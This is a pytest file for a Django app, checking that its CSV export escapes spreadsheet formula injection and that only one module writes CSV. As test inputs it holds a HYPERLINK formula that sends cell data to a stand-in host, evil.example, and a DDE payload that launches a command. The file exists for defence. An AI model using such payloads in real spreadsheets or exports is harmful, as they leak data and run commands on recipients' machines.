"""Every CSV export goes through the one writer, which never writes a cell a spreadsheet runs as a formula."""

import csv
import io
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from communities.csvexport import safe_cell
from members.services.audit import audit_record
from tests import factories

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+33 1 23", "'+33 1 23"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("plain = text", "plain = text"),
        (None, ""),
        (-3, -3),
        (2.5, 2.5),
    ],
)
def test_safe_cell(value, cell):
    assert safe_cell(value) == cell


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_audit_export_escapes_a_formula_in_the_reason_and_the_member_name(client, community, owner):
    subject = factories.member(community=community)
    subject.user.display_name = "=cmd|' /C calc'!A0"
    subject.user.save()
    audit_record(community=community, actor=owner, action="member.warned", subject=subject, reason=FORMULA)
    client.force_login(owner)
    rows = _rows(client.get(reverse("members:audit-export", args=[community.slug])))
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)


def test_no_module_writes_csv_but_the_one_writer():
    """A new export that opened its own csv.writer would skip the escaping: only csvexport may."""
    writers = {
        str(path.relative_to(settings.BASE_DIR))
        for app in (
            "accounts",
            "communities",
            "members",
            "content",
            "events",
            "learning",
            "analytics",
            "config",
        )
        for path in (settings.BASE_DIR / app).rglob("*.py")
        if "csv.writer" in path.read_text() or "csv.DictWriter" in path.read_text()
    }
    assert writers == {str(Path("communities") / "csvexport.py")}
